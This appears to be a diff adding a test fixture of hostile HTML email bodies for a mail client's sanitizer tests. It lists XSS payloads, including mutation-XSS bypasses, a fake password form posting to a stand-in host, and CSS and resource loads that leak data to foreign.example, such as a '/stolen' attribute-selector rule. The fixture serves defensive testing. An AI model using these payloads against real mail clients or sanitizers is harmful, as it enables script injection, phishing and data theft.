@@ -1,0 +1,31 @@
+/** Mails of our own that try to run, to ask, to leave, to cover or to colour what is not theirs; `owned` is the page's alarm. */
+const far = 'https://foreign.example'
+
+export const hostileBodies: readonly string[] = [
+  '<script>owned("script")</script><script src="//foreign.example/a.js"></script>',
+  '<img src=x onerror=owned("img")><body onload=owned("body")>',
+  '<svg onload=owned("svg")><script>owned("svg script")</script><animate onbegin=owned("animate") attributeName=x dur=1s></svg>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=owned(1)&gt;">',
+  '<svg></p><style><a id="</style><img src=1 onerror=owned(2)>">',
+  '<noscript><p title="</noscript><img src=x onerror=owned(3)>"></noscript>',
+  '<form id=f action="x"><input name=attributes><input name=childNodes></form><details open ontoggle=owned("toggle")>x</details>',
+  '<iframe srcdoc="<script>top.owned(4)</script>"></iframe><object data="data:text/html,<script>top.owned(5)</script>"></object><embed src="javascript:owned(6)">',
+  '<a href="java&#10;script:owned(7)">a</a><a href="data:text/html,<script>owned(8)</script>">b</a>',
+  '<template><img src=x onerror=owned(9)></template><input autofocus onfocus=owned(10)><marquee onstart=owned(11)>m</marquee>',
+  `<form action="${far}/form"><input name=password type=password autofocus><button>Sign in</button></form>`,
+  `<meta http-equiv=refresh content="0;url=${far}/refresh">`,
+  `<base href="${far}/base/" target=_top><img src="relative.png"><a href="relative">x</a>`,
+  `<iframe src="${far}/frame"></iframe><frameset><frame src="${far}/frame2"></frameset>`,
+  `<style>@import url("${far}/a.css"); @import "${far}/b.css";</style><link rel=stylesheet href="${far}/c.css">`,
+  `<link rel=prefetch href="${far}/p"><link rel=preload as=image href="${far}/q"><link rel=dns-prefetch href="${far}"><link rel=icon href="${far}/i">`,
+  `<style>p{background:url(${far}/a);list-style-image:url("${far}/b");cursor:url(${far}/c),auto}</style>`,
+  `<style>:root{--x:url(${far}/v)} body,p,div{background:var(--x)}</style><p style="background:u\\72l(${far}/e)">x</p>`,
+  `<p style="background:image-set('${far}/s' 1x);mask:url(${far}/m);filter:url(${far}/f#f)">x</p>`,
+  `<style>@font-face{font-family:leak;src:url(${far}/font)} *{font-family:leak!important}</style>`,
+  `<img srcset="${far}/1 1x"><picture><source srcset="${far}/2"><img></picture><video poster="${far}/3" src="${far}/4" autoplay></video><audio src="${far}/5" autoplay></audio>`,
+  `<img src="${far}/pixel.gif"><table background="${far}/t"><tr><td>x</td></tr></table><svg><image href="${far}/6"/><use href="${far}/7#x"/></svg>`,
+  '<div style="position:fixed;inset:0;z-index:2147483647;background:red;width:100vw;height:100vh">cover</div>',
+  '<style>:root,html,body,nav,aside,a,button{color:rgb(1,2,3)!important;background:red!important;display:none!important;transform:scale(2)!important}</style>',
+  `<style>input[value^="a"],[data-token],meta[content]{background:url(${far}/stolen)!important} nav{width:1px!important}</style>`,
+  '<style>:root{--ep-accent:red;--ep-text:rgb(1,2,3);--ep-bg:red} .ep-card,.mailbox-row,.layout{display:none!important}</style><div class="ep-card visually-hidden" id="root">x</div>',
+]
